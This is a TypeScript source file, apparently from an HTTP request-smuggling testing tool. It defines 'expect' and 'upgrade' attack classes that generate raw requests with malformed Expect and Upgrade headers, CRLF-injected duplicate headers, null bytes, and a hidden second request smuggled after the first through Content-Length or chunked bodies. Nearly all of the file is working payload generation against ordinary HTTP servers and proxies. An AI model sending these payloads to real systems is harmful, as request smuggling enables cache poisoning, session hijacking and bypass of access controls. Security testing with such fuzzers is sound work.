import { type AttackClass, chunked, end, get, HOST, hidden, post } from '../payload.ts'

// What makes a reader wait, change the protocol or answer out of turn: Expect and Upgrade.

const EXPECTATIONS = [
  '100-continue',
  '100-Continue',
  ' 100-continue ',
  '100-continue, 100-continue',
  '100-continue\r\nExpect: 100-continue',
  '200-ok',
  'x',
  '',
  '100-continue;a',
  'y 100-continue',
  '100',
  '"100-continue"',
  '100-continue\0',
  '\t100-continue',
]

const PROTOCOLS = [
  'h2c',
  'h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__',
  'websocket',
  'WebSocket',
  'websocket, h2c',
  'h2c, websocket',
  'websocket\r\nUpgrade: h2c',
  'websocket/13',
  'h2',
  'HTTP/2.0',
  'TLS/1.0',
  'TLS/1.2, HTTP/1.1',
  'x',
  '',
  ' websocket ',
  'web\0socket',
]

const expect: AttackClass = {
  class: 'expect',
  payloads: EXPECTATIONS.flatMap((expectation) => [
    (at: string) =>
      post(at, `Expect: ${expectation}\r\nContent-Length: ${hidden(at).length}\r\n`, hidden(at)),
    (at: string) => post(at, `Expect: ${expectation}\r\nContent-Length: 3\r\n`, 'abc', 'GET'),
    (at: string) => get(`${at}/a`, HOST, `Expect: ${expectation}\r\n`) + hidden(at) + end(at),
    (at: string) =>
      post(at, `Expect: ${expectation}\r\nTransfer-Encoding: chunked\r\n`, chunked(hidden(at))),
  ]),
}

const upgrade: AttackClass = {
  class: 'upgrade',
  payloads: PROTOCOLS.flatMap((protocol) => [
    (at: string) =>
      get(`${at}/a`, HOST, `Connection: Upgrade\r\nUpgrade: ${protocol}\r\n`) +
      hidden(at) +
      end(at),
    (at: string) =>
      get(
        `${at}/a`,
        HOST,
        `Connection: Upgrade, HTTP2-Settings\r\nUpgrade: ${protocol}\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n`,
      ) + end(at),
    (at: string) => get(`${at}/a`, HOST, `Upgrade: ${protocol}\r\n`) + hidden(at) + end(at),
    (at: string) =>
      post(
        at,
        `Connection: Upgrade\r\nUpgrade: ${protocol}\r\nContent-Length: ${hidden(at).length}\r\n`,
        hidden(at),
      ),
    (at: string) =>
      post(
        at,
        `Connection: Upgrade\r\nUpgrade: ${protocol}\r\nContent-Length: ${hidden(at).length}\r\n`,
        hidden(at),
        'GET',
      ),
    (at: string) =>
      post(
        at,
        `Connection: Upgrade\r\nUpgrade: ${protocol}\r\nTransfer-Encoding: chunked\r\n`,
        chunked(hidden(at)),
        'GET',
      ),
    (at: string) =>
      get(`${at}/before`) +
      get(`${at}/a`, HOST, `Connection: Upgrade\r\nUpgrade: ${protocol}\r\n`) +
      hidden(at) +
      end(at),
  ]),
}

/** Attacks on whose turn it is. */
export const TURNS: readonly AttackClass[] = [expect, upgrade]
